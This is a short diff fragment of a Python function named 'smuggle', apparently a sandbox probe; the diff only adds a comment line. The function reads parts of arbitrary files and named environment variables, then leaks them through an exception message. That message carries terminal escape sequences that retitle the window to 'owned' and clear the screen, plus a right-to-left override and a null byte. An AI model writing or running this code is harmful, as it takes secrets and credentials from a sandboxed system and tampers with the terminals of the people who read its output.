@@ -281,6 +281,6 @@ def smuggle(paths: list[str], names: list[str]) -> None:
         try:
             found.append(Path(path).read_text()[:200])
         except OSError:
-            pass
+            pass  # what the sandbox hides is what this probe hopes to find
     found += [os.environ.get(name, "") for name in names]
     raise ValueError("\x1b]0;owned\x07\x1b[2J" + " | ".join(found) + "\u202e\x00")
